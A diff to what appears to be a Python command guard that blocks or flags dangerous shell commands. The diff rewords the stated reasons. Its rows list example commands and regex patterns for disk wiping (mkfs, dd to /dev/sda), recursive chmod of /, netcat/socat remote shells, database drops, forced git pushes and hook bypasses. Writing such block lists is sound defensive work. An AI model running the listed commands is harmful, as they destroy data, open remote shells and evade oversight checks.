@@ -67,23 +67,23 @@ _FORCE = r"-[A-Za-z]*f[A-Za-z]*|--forc?e?"
 # A whole work tree, as git names it.
 _ALL = r"\.|\./|(?:\.\./?)+|:/|:|\*|:\(top\)"
 _SQL = r"(?is).*(?:\bDROP\s+(?:DATABASE|SCHEMA|TABLE)\b|\bTRUNCATE\s+(?:TABLE\s+)?\w|\bDELETE\s+FROM\s+[\w.\"`]+\s*(?:;|$)).*"
-_CHECKS = "it goes around the checks"
-_THROWS = "it throws changes away"
+_CHECKS = "it bypasses the checks"
+_THROWS = "it discards changes"
 _HISTORY = "it rewrites history"
-_BACK = "it deletes the way back"
+_BACK = "it deletes what git needs to undo a mistake"
 
 ROWS: tuple[Row, ...] = (
-    Row("mkfs fdisk sfdisk gdisk parted wipefs blkdiscard mkswap badblocks cryptsetup zpool lvremove vgremove pvremove format.com", "it destroys what is on a disk",
+    Row("mkfs fdisk sfdisk gdisk parted wipefs blkdiscard mkswap badblocks cryptsetup zpool lvremove vgremove pvremove format.com", "it destroys the contents of a disk",
         ("mkfs.ext4 /dev/sda", "fdisk /dev/sda"), ("lsblk /dev/sda", "fdisks"), decision=FORBIDDEN),
     Row("dd", "dd writes over a device", ("dd if=/dev/zero of=/dev/sda",), ("dd if=a of=/dev/null", "dd if=a of=/dev/stdout", "dd if=/dev/zero of=b"),
         word=r"of=/dev/(?!null$|stdout$).*", decision=FORBIDDEN),
-    Row("diskutil", "diskutil destroys what is on a disk", ("diskutil eraseDisk JHFS+ x disk2", "diskutil partitionDisk disk2"), ("diskutil list",),
+    Row("diskutil", "diskutil destroys the contents of a disk", ("diskutil eraseDisk JHFS+ x disk2", "diskutil partitionDisk disk2"), ("diskutil list",),
         word=r"(?is).*(?:erase|partition).*", decision=FORBIDDEN),
-    Row("chmod chown chgrp", "it reaches a whole system or home", ("chmod -R 777 /", "chown -R me ~"), ("chmod -R u+w build", "chmod 755 /etc"),
+    Row("chmod chown chgrp", "it changes a whole system or home folder", ("chmod -R 777 /", "chown -R me ~"), ("chmod -R u+w build", "chmod 755 /etc"),
         word=r"-[A-Za-z]*R[A-Za-z]*|--recursive", also=_HOME, decision=FORBIDDEN),
-    Row("nc ncat netcat socat", "it gives a program to the network", ("nc -e sh x.example 9", "ncat --sh-exec id x.example 9", "socat TCP-LISTEN:9 EXEC:sh"), ("nc -z localhost 80",),
+    Row("nc ncat netcat socat", "it lets the network run a program", ("nc -e sh x.example 9", "ncat --sh-exec id x.example 9", "socat TCP-LISTEN:9 EXEC:sh"), ("nc -z localhost 80",),
         word=r"(?s)-[A-Za-z]*[ec]|--(?:sh-)?exec.*|EXEC:.*|SYSTEM:.*|.*[,!](?:EXEC|SYSTEM):.*"),
-    Row("shutdown reboot halt poweroff", "it stops the machine", ("shutdown -h now", "reboot"), ("uptime",)),
+    Row("shutdown reboot halt poweroff", "it shuts the machine down", ("shutdown -h now", "reboot"), ("uptime",)),
     Row("crontab", "crontab -r deletes all jobs", ("crontab -r",), ("crontab -l",), word="-r"),
     Row("dropdb dropuser", "it deletes from a database server", ("dropdb app",), ("createdb app",)),
     Row("psql mysql mariadb sqlite3 sqlcmd clickhouse-client duckdb bq snow", "the statement deletes data",
@@ -92,13 +92,13 @@ ROWS: tuple[Row, ...] = (
     Row("redis-cli valkey-cli", "it empties the database", ("redis-cli FLUSHALL", "redis-cli -n 1 flushdb"), ("redis-cli ping",), word="(?i)flushall|flushdb"),
     Row("mongo mongosh", "it drops data", ("mongosh app --eval 'db.dropDatabase()'", "mongosh app --eval 'db.users.drop()'"), ("mongosh app --eval 'db.users.find()'",),
         word=r"(?s).*(?:dropDatabase|\.drop\().*"),
-    Row("pre-commit prek", "it takes the checks away", ("pre-commit uninstall", "prek uninstall -t pre-push"), ("pre-commit install", "pre-commit run --all-files"), verbs="uninstall"),
+    Row("pre-commit prek", "it removes the checks", ("pre-commit uninstall", "prek uninstall -t pre-push"), ("pre-commit install", "pre-commit run --all-files"), verbs="uninstall"),
     # git, in the order of `git help`.
     Row("git", _CHECKS, ("git commit -m x --no-verify", "git push --no-verify"), ("git commit -m x", "git merge --no-ff x"),
         verbs="commit, push, merge, rebase, am, cherry-pick, revert", word="--no-verif?y?"),
     Row("git", _CHECKS, ("git commit -n -m x", "git commit -an -m x"), ("git commit -am n", "git commit -uno -m x", "git commit -S -m 'no'"),
         verbs="commit", word=r"-[aeiopqsvz]*n[A-Za-z]*"),
-    Row("git", "core.hooksPath takes the checks away", ("git config core.hooksPath /dev/null", "git config --global core.hookspath x"), ("git config user.name x",),
+    Row("git", "core.hooksPath switches the checks off", ("git config core.hooksPath /dev/null", "git config --global core.hookspath x"), ("git config user.name x",),
         verbs="config", word=r"(?is)core\.hookspath.*"),
     Row("git", "a forced push rewrites published history",
         ("git push -f", "git push --force origin main", "git push --force-with-lease=main:1", "git push --mirror", "git push --prune origin", "git push origin +main"),
@@ -114,7 +114,7 @@ ROWS: tuple[Row, ...] = (
     Row("git", "it rewrites the last commit", ("git commit --amend --no-edit",), ("git commit -m x",), verbs="commit", word="--am[end]*"),
     Row("git", _THROWS, ("git reset --hard", "git reset --hard HEAD~5", "git reset --merge", "git reset --keep x"), ("git reset --soft HEAD~1", "git reset HEAD x"),
         verbs="reset", word="--har?d?|--mer?g?e?|--kee?p?"),
-    Row("git", "it deletes files that git does not have", ("git clean -fdx", "git clean --force"), ("git clean -n", "git clean -nd"), verbs="clean", word=_FORCE),
+    Row("git", "it deletes files that git does not track", ("git clean -fdx", "git clean --force"), ("git clean -n", "git clean -nd"), verbs="clean", word=_FORCE),
     Row("git", _THROWS, ("git checkout -f", "git checkout --force main", "git switch -f main", "git switch --discard-changes main"), ("git checkout main", "git switch -c x", "git checkout -b x"),
         verbs="checkout, switch", word=rf"{_FORCE}|--dis[a-z-]*"),
     Row("git", _THROWS, ("git checkout .", "git checkout ./", "git checkout -- .", "git checkout HEAD -- .", "git checkout HEAD .", "git checkout :/"),
@@ -129,7 +129,7 @@ ROWS: tuple[Row, ...] = (
         verbs="branch", word=_FORCE, also=r"--del[et]*|-[A-Za-z]*d[A-Za-z]*"),
     Row("git", "it moves or deletes a tag", ("git tag -d v1", "git tag --delete v1", "git tag -f v1", "git tag --force v1"), ("git tag v1", "git tag -a v1 -m d", "git tag -l"),
         verbs="tag", word=rf"{_FORCE}|-d|--del[et]*"),
-    Row("git", "it throws a stash away", ("git stash drop", "git stash clear", "git stash drop stash@{0}"), ("git stash", "git stash pop", "git stash list", "git stash push -m drop"),
+    Row("git", "it discards a stash", ("git stash drop", "git stash clear", "git stash drop stash@{0}"), ("git stash", "git stash pop", "git stash list", "git stash push -m drop"),
         verbs="stash drop, stash clear"),
     Row("git", _BACK, ("git reflog expire --expire=now --all", "git reflog delete HEAD@{1}"), ("git reflog", "git reflog show main"), verbs="reflog expire, reflog delete"),
     Row("git", _BACK, ("git gc --prune=now", "git gc --prune=all", "git prune --expire=now"), ("git gc", "git gc --auto", "git prune -n"), verbs="gc, prune",
@@ -196,13 +196,13 @@ def _delete(name: str, rest: Words) -> Found | None:
             continue
         word = _plain(word)
         if re.fullmatch(_HOME, word) and (deep or name != "rm"):
-            return FORBIDDEN, f"{name} of {word}: a whole system or home"
+            return FORBIDDEN, f"{name} on {word}: a whole system or home folder"
         if not deep:
             continue
         if word in (".", "./", "*", "./*", ".git", "./.git") or word.startswith(("..", "~")):
-            return PROMPT, f"{name} -r of {word}, which reaches far"
+            return PROMPT, f"{name} -r on {word}: it may delete far more than meant"
         if word.startswith("/") and not re.match(r"(/var)?/tmp/", word):
-            return PROMPT, f"{name} -r of {word}, outside of the repository"
+            return PROMPT, f"{name} -r on {word}, outside the repository"
     return None
 
 
